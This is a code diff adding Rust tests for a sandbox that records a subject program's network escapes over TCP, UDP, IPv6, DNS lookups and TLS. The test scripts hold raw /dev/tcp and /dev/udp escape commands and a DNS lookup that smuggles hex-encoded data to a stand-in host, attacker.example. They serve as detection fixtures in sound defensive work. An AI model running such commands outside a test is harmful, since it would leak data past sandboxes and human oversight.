@@ -14,6 +14,11 @@ pub(crate) fn tests() -> Vec<Test> {
         the_real_host_of_a_service_is_the_service_and_takes_the_subjects_own_key,
         an_ordinary_user_can_run_sealed,
         every_other_host_is_recorded_with_its_port_and_an_address_without_a_name_too,
+        every_connection_and_every_datagram_is_recorded_at_any_port_and_with_ipv6,
+        what_stays_with_the_subject_or_is_ignored_leaves_no_finding,
+        a_program_that_finds_its_own_address_and_connects_there_stays_with_itself,
+        a_name_that_is_only_looked_up_is_recorded_and_fails_if_it_carries_data,
+        a_tls_connection_that_never_says_hello_is_recorded,
         an_allowed_port_of_this_machine_is_reached_and_all_others_are_not,
         the_subject_sees_its_own_directories_and_nothing_of_hapax,
         what_the_subject_leaves_behind_ends_with_its_namespace,
@@ -112,10 +117,110 @@ async fn every_other_host_is_recorded_with_its_port_and_an_address_without_a_nam
                 (exec 4<>/dev/tcp/93.184.216.34/8443) 2>/dev/null || echo refused";
     let (_, report) = run(&agent(rest), &[], 1);
     let verdict = verdict(&report, "plain");
-    assert_eq!(kinds(verdict), ["escaped", "escaped"], "{verdict:#}");
-    let text = verdict["findings"].to_string();
-    assert!(text.contains("billing.example.com") && text.contains("93.184.216.34"), "{text}");
+    assert_eq!(kinds(verdict), ["escaped", "escaped", "escaped"], "{verdict:#}");
+    assert_eq!(targets(verdict), ["93.184.216.34:80", "93.184.216.34:8443", "billing.example.com:443"]);
     assert!(output(&report).contains("refused"), "{}", output(&report));
+}
+
+/// What the findings of a verdict say that the subject tried to reach.
+fn targets(verdict: &Value) -> Vec<String> {
+    let messages =
+        verdict["findings"].as_array().unwrap().iter().map(|finding| finding["message"].as_str().unwrap());
+    let target = |message: &str| {
+        let (_, rest) = message.split_once(" to reach ")?;
+        Some(rest.split_once(", which")?.0.to_owned())
+    };
+    messages.map(|message| target(message).unwrap_or_else(|| panic!("{message}"))).collect()
+}
+
+/// The fields of the notes with this name in the ledger of the last run.
+fn notes(workspace: &Workspace, name: &str) -> Vec<Value> {
+    let lines = workspace.read("reports/latest/ledger.jsonl");
+    let entries = lines.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
+    entries.filter(|entry| entry["name"] == name).map(|entry| entry["fields"].clone()).collect()
+}
+
+async fn every_connection_and_every_datagram_is_recorded_at_any_port_and_with_ipv6() {
+    let rest = "exec 2>/dev/null\n\
+                tcp() { (exec 4<>\"/dev/tcp/$1/$2\" && cat <&4); }\n\
+                tcp api.stripe.com 8443; tcp api.stripe.com 8080; tcp mail.example.com 2525\n\
+                tcp 2001:db8::1 443; tcp 2001:db8::1 8443\n\
+                echo told >/dev/udp/93.184.216.34/9999; echo told >/dev/udp/2001:db8::2/53\n\
+                echo told >/dev/udp/statsd.example.com/8125";
+    let (workspace, report) = run(&agent(rest), &[], 1);
+    let expected = [
+        "93.184.216.34:9999 over UDP",
+        "[2001:db8::1]:443",
+        "[2001:db8::1]:8443",
+        "[2001:db8::2]:53 over UDP",
+        "api.stripe.com:8080",
+        "api.stripe.com:8443",
+        "mail.example.com:2525",
+        "statsd.example.com:8125 over UDP",
+    ];
+    let verdict = verdict(&report, "plain");
+    let mut found = targets(verdict);
+    found.sort();
+    assert_eq!(found, expected, "{verdict:#}");
+    assert_eq!(notes(&workspace, "escaped").len(), 8);
+}
+
+async fn what_stays_with_the_subject_or_is_ignored_leaves_no_finding() {
+    let rest = "exec 2>/dev/null\n\
+                tcp() { (exec 4<>\"/dev/tcp/$1/$2\"); }\n\
+                tcp 127.0.0.1 9; tcp ::1 9; tcp localhost 8443; tcp \"$(uname -n)\" 9; tcp 0.0.0.0 9\n\
+                echo told >/dev/udp/127.0.0.1/9; echo told >/dev/udp/::1/9; echo told >/dev/udp/127.9.9.9/53\n\
+                tcp telemetry.example.com 4318; echo told >/dev/udp/telemetry.example.com/8125\n\
+                tcp ::ffff:127.0.0.1 9";
+    let (workspace, report) = run(&agent(rest), &["--ignore", "telemetry.example.com"], 0);
+    assert_eq!(verdict(&report, "plain")["result"], "pass");
+    let ignored: Vec<Value> =
+        notes(&workspace, "ignored").into_iter().map(|note| note["port"].clone()).collect();
+    assert_eq!(ignored, [4318, 8125]);
+}
+
+/// Finds the address of its machine as many programs do, and connects to a port of its own there.
+const OWN_ADDRESS: &str = r#"use IO::Socket::INET;
+my $way = IO::Socket::INET->new(PeerAddr => '8.8.8.8', PeerPort => 80, Proto => 'udp') or die $!;
+my $listener = IO::Socket::INET->new(LocalAddr => '0.0.0.0', Listen => 5) or die $!;
+my $own = IO::Socket::INET->new(PeerAddr => $way->sockhost, PeerPort => $listener->sockport) or die $!;
+print $own "hello
+";
+$own->flush;
+print "heard ", scalar readline $listener->accept;
+"#;
+
+async fn a_program_that_finds_its_own_address_and_connects_there_stays_with_itself() {
+    let script = agent(&format!("perl -e \"$(cat <<'END'\n{OWN_ADDRESS}END\n)\""));
+    let (_, report) = run(&script, &[], 0);
+    assert!(output(&report).contains("heard hello"), "{}", output(&report));
+}
+
+async fn a_name_that_is_only_looked_up_is_recorded_and_fails_if_it_carries_data() {
+    // As smtplib and others do before they connect.
+    let plain = agent("getent hosts docs.example.com >/dev/null; getent hosts 192.0.2.7 >/dev/null; true");
+    let (workspace, _) = run(&plain, &[], 0);
+    let hosts: Vec<Value> =
+        notes(&workspace, "looked-up").into_iter().map(|note| note["host"].clone()).collect();
+    assert_eq!(hosts, ["7.2.0.192.in-addr.arpa", "docs.example.com"]);
+    let script = agent("getent hosts 6f72645f31303031.attacker.example >/dev/null; true");
+    let (_, report) = run(&script, &[], 1);
+    let found = verdict(&report, "plain");
+    assert_eq!(kinds(found), ["escaped"], "{found:#}");
+    assert!(found["findings"].to_string().contains("6f72645f31303031.attacker.example"), "{found:#}");
+    run(&script, &["--ignore", "*.attacker.example"], 0);
+}
+
+async fn a_tls_connection_that_never_says_hello_is_recorded() {
+    // Each connection lasts until hapax closes it.
+    let hello =
+        |host: &str| format!("(exec 4<>/dev/tcp/{host}/443; printf '\\x16\\x03\\x01\\x02' >&4; cat <&4) &\n");
+    let rest = hello("93.184.216.34") + &hello("api.stripe.com") + "wait";
+    let (workspace, report) = run(&agent(&rest), &[], 1);
+    assert_eq!(targets(verdict(&report, "plain")), ["93.184.216.34:443"]);
+    let contacted = notes(&workspace, "contacted");
+    assert_eq!(contacted.len(), 1, "{contacted:?}");
+    assert_eq!((&contacted[0]["host"], &contacted[0]["port"]), (&"api.stripe.com".into(), &443.into()));
 }
 
 async fn an_allowed_port_of_this_machine_is_reached_and_all_others_are_not() {
